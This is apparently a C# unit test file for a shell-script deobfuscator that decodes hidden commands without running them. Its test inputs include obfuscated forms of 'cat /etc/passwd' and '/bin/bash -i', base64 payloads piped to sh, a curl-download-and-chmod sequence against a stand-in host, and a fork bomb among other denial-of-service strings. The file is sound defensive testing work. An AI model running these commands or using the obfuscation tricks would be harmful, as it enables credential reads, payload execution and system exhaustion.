namespace Stemma.Decoding.Tests;

/// <summary>Scripts of Unix shells, followed without running them.</summary>
public sealed class ShellDecoderTests
{
    private static string Evaluated(string text) =>
        Decoder.Decode(text, ScriptKind.Shell).Layers.FirstOrDefault(layer => layer.Step == "evaluated")?.Text ?? text;

    [Theory]
    [InlineData("w'h'o\"am\"i", "whoami")]
    [InlineData("\\c\\a\\t /e''tc/pa\"ss\"wd", "cat /etc/passwd")]
    [InlineData("wh$@oami; c${x}at /etc/hosts", "whoami; cat /etc/hosts")]
    [InlineData("cat${IFS}/etc/passwd", "cat /etc/passwd")]
    [InlineData("{cat,/etc/passwd}", "cat /etc/passwd")]
    [InlineData("a=who;b=ami;$a$b -x", "a=who;b=ami;whoami -x")]
    [InlineData("$(printf '\\x69\\x64') -u", "id -u")]
    [InlineData("$(echo di | rev)", "id")]
    [InlineData("/???/b??h -i", "/bin/bash -i")]
    [InlineData("/b?n/ca? /etc/hosts", "/bin/cat /etc/hosts")]
    [InlineData("cat ${HOME:0:1}etc${PATH:0:1}passwd", "cat /etc/passwd")]
    [InlineData("x=$(echo aWQ= | base64 -d)", "x=id")]
    [InlineData("X=WHOAMI; ${X,,}", "X=WHOAMI; whoami")]
    [InlineData("$'\\x77hoami'", "whoami")]
    public void What_hides_a_word_is_taken_away(string text, string expected) => Assert.Equal(expected, Evaluated(text));

    [Theory]
    [InlineData("#!/bin/sh\nset -e\nDIR=\"$(dirname \"$0\")\"\nfor f in \"$DIR\"/*.conf; do\n  [ -f \"$f\" ] && . \"$f\"\ndone\nexec \"$DIR/run\" --name=\"$NAME\" \"$@\"\n")]
    [InlineData("if [ -n \"$1\" ]; then echo \"it's $1\" | sed 's/a/b/'; else printf '%s\\n' none; fi")]
    [InlineData("case $1 in start|stop) service foo $1;; *) echo \"usage: $0 {start|stop}\"; exit 1;; esac")]
    [InlineData("VERSION=$(uname -r | cut -d. -f1); make -j4 CFLAGS='-O2 -g' install")]
    [InlineData("cat > /etc/x.conf <<EOF\nname = $NAME\nvalue=1\nEOF\nchmod 644 /etc/x.conf")]
    [InlineData("ls -la /tmp | grep -v '^d' | awk '{print $9}'")]
    public void A_plain_script_comes_out_as_itself(string text) => Assert.Single(Decoder.Decode(text, ScriptKind.Shell).Layers);

    [Fact]
    [Trait("Speed", "slow")]
    public void Scripts_of_the_system_come_out_as_themselves()
    {
        string[] files = [.. new[] { "/etc/init.d", "/usr/bin", "/usr/sbin", "/etc/cron.daily" }.Where(Directory.Exists).SelectMany(Directory.EnumerateFiles)
            .Where(file => new FileInfo(file) is { Length: > 0 and < 100_000, LinkTarget: null } && StartsWithShell(file)).Order(StringComparer.Ordinal)];
        Assert.SkipWhen(files.Length < 10, "this machine has few shell scripts");
        string[] changed = [.. files.Where(file => Decoder.Decode(File.ReadAllText(file), ScriptKind.Shell).Layers.Count > 1)];
        Assert.True(changed.Length <= files.Length * 0.05, $"{changed.Length} of {files.Length}: {string.Join(' ', changed)}");
    }

    private static bool StartsWithShell(string file)
    {
        using var reader = new StreamReader(file);
        string? line = reader.ReadLine();
        return line is not null && line.StartsWith("#!", StringComparison.Ordinal) && (line.Contains("/sh", StringComparison.Ordinal) || line.Contains("bash", StringComparison.Ordinal));
    }

    [Fact]
    public void Code_for_another_interpreter_is_handed_on() => Assert.Contains(Decoder.Decode("echo cHJpbnQoMSk= | base64 -d | python3", ScriptKind.Shell).Layers, layer => (layer.Kind, layer.Text) == (ScriptKind.Python, "print(1)"));

    [Fact]
    public void Commands_are_told_with_their_arguments_and_places()
    {
        DecodedArtifact artifact = Decoder.Decode("u=http://a.example/x; c''url -o /tmp/x \"$u\"; chmod +x /tmp/x", ScriptKind.Shell);
        DecodedCall curl = artifact.Calls.First(call => call.Name == "curl");
        Assert.Equal("-o /tmp/x http://a.example/x", string.Join(' ', curl.Arguments));
        Assert.Equal("curl -o /tmp/x \"$u\"", artifact.Layers[curl.Layer].Text.Substring(curl.Start, curl.Length));
        Assert.Contains(artifact.Calls, call => call.Name == "chmod");
    }

    [Theory]
    [InlineData("while true; do :; done; echo aWQ= | base64 -d | sh")]
    [InlineData("a=x; while [ 1 -lt 2 ]; do a=$a$a; done")]
    [InlineData("echo {1..999999999} {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}")]
    [InlineData("f() { f; f; }; f")]
    [InlineData(":(){ :|:& };:")]
    [InlineData("for ((;;)); do x=$((x+1)); done")]
    [InlineData("eval 'eval \"$x\"'; x='eval \"$x\"'; eval \"$x\"")]
    [InlineData("x=$(echo a | sed 's/a/b')")]
    [InlineData("printf '%1000000000d' 1; seq 1 1000000000")]
    public void Endless_scripts_end(string text) => Ends(text);

    [Fact]
    public void Deep_nesting_and_long_lines_end()
    {
        Ends(new string('(', 200_000));
        Ends(string.Concat(Enumerable.Repeat("$(", 100_000)));
        Ends(string.Concat(Enumerable.Repeat("${x:-", 100_000)));
        Ends("echo $((" + new string('(', 100_000) + "1");
        Ends(string.Concat(Enumerable.Repeat("if true; then ", 50_000)));
        Ends(string.Concat(Enumerable.Repeat("echo a|", 50_000)) + "sh");
        Ends(string.Concat(Enumerable.Repeat("{a,", 50_000)));
        Ends("v=" + new string('a', 200_000) + "; echo ${v//a*b/x} ${v##*c*d*e}");
        Ends(string.Concat(Enumerable.Repeat("cat <<E\n", 20_000)));
        Ends(string.Concat(Enumerable.Repeat("\"$(echo ", 20_000)));
    }

    private static void Ends(string text)
    {
        var watch = System.Diagnostics.Stopwatch.StartNew();
        Decoder.Decode(text, ScriptKind.Shell);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(4), $"{watch.Elapsed} for {text[..Math.Min(60, text.Length)]}");
    }
}
